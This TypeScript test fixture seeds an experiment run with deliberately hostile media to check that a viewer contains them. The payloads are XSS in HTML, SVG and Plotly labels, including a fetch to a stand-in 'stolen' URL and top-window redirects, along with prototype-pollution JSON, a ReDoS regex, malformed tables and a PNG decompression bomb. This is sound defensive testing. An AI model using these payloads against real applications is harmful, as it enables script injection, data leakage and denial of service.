import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { crc32, deflateSync } from "node:zlib";
import { Html, Image, init, Molecule, Object3D, Plotly, Table, Vega } from "@stepwell/core";
import { quietOptions } from "./quiet-options.ts";

/** Does something that a page must not let a logged file do: marks the window, asks another server, leaves. */
const script = `try { parent.hostile = 1; top.hostile = 1 } catch {}
fetch("https://example.com/stolen"); alert("hostile"); top.location = "https://example.com/left"`;
const page = `<!doctype html><title>hostile</title><script>document.title = "ran"; ${script}</script>
<meta http-equiv="refresh" content="0;url=https://example.com/refreshed">
<img src="https://example.com/seen.png" onerror='${script}'><base target="_top">
<form action="https://example.com/sent"><input autofocus onfocus='${script}'></form>
<iframe srcdoc="<script>${script.replaceAll('"', "&quot;")}</script>"></iframe><h1>harmless</h1>`;

/** The drawing that a person may open from its link. */
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload='${script}'>
<script>document.documentElement.setAttribute("data-ran", "1"); ${script}</script>
<image href="https://example.com/seen.svg" width="8" height="8"/></svg>`;

/** A run whose media are made to harm who looks at them. The files are changed after the SDK has written them. */
export async function seedHostile(dir: string): Promise<void> {
  const run = await init({ ...quietOptions(dir), project: "hostile", id: "hostile-0", name: "hostile" });
  const pixels = new Uint8Array(12);
  run.log({
    "pictures/empty": new Image(pixels, { shape: [2, 2, 3], caption: "empty" }),
    "pictures/huge": new Image(pixels.fill(9), { shape: [2, 2, 3], caption: "huge" }),
    "pictures/large": new Image(pixels.fill(7), { shape: [2, 2, 3], caption: "large" }),
    "pages/html": new Html(page, { inject: false }),
    "tables/broken": new Table({ columns: ["broken"], data: [[1]] }),
    "tables/wide": new Table({ columns: ["wide"], data: [[1]] }),
    "tables/proto": new Table({ columns: ["proto"], data: [[1]] }),
    "models/glb": new Object3D(
      Uint8Array.from({ length: 999 }, (_, at) => at),
      {
        fileType: "glb",
        caption: "garbage model",
      },
    ),
    "molecules/pdb": new Molecule("ATOM ?\u0000".repeat(99), {
      fileType: "pdb",
      caption: "garbage molecule",
    }),
    "figures/outside": new Vega({ mark: "bar", data: { url: "https://example.com/a.csv" }, encoding: {} }),
    "figures/endless": new Vega(vega(`test(/^(a+)+$/, '${"a".repeat(60)}b')`)),
    "figures/long": new Vega(vega("sequence(1e9)")),
    "figures/labels": new Plotly({
      data: [
        {
          type: "bar",
          x: ["<img src=x onerror='parent.hostile = 1'>", "<script>parent.hostile = 1</script>"],
          y: [1, 2],
          text: ["<svg onload='parent.hostile = 1'>", "<b onclick='parent.hostile = 1'>b</b>"],
        },
      ],
      layout: {
        title: { text: `<a href="javascript:parent.hostile = 1">title</a>` },
        images: [{ source: "https://example.com/paper.png", x: 0, y: 0, sizex: 1, sizey: 1 }],
      },
    }),
    "figures/proto": new Vega({ mark: "bar", encoding: {} }),
  });
  await run.finish();
  const own = join(
    dir,
    "wandb",
    readdirSync(join(dir, "wandb")).find((name) => name.endsWith("hostile-0")) ?? "",
  );
  const change = (kind: string, key: string, content: string | Uint8Array): void => {
    const folder = join(own, "files/media", kind);
    const found = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) =>
      name.includes(`${key}_`),
    );
    if (found.length === 0) throw new Error(`No file of "${key}" in ${kind}.`);
    for (const name of found) writeFileSync(join(folder, name), content);
  };
  change("images", "empty", "");
  change("images", "huge", hugePicture(60_000));
  change("images", "large", hugePicture(15_000));
  change("table", "broken", `{"columns": ["a", "b"], "data": [[1, 2], [3`);
  const names = Array.from({ length: 1e5 }, (_, at) => `c${at}`);
  change("table", "wide", JSON.stringify({ columns: names, data: [names.map((_, at) => at)] }));
  const proto = `{"__proto__": {"hostile": 1}, "constructor": {"prototype": {"hostile": 1}}`;
  change(
    "table",
    "proto",
    `${proto}, "columns": ["__proto__", "constructor"], "data": [[${proto}}, "kept"]]}`,
  );
  change("vega", "proto", `${proto}, "mark": "bar", "encoding": {}, "data": {"values": [${proto}}]}}`);
  writeFileSync(join(own, "files/drawing.svg"), drawing);
}

function vega(update: string): object {
  return {
    $schema: "https://vega.github.io/schema/vega/v6.json",
    signals: [{ name: "a", update }],
    marks: [{ type: "text", encode: { update: { text: { signal: "a" } } } }],
  };
}

/** A PNG that says it has `side` × `side` pixels, and has the bytes of one row. */
function hugePicture(side: number): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const row = deflateSync(Buffer.alloc(1 + 3 * side));
  const signature = Buffer.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10);
  return Buffer.concat([signature, chunk("IHDR", head), chunk("IDAT", row), chunk("IEND", Buffer.alloc(0))]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length, 0);
  ends.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
}
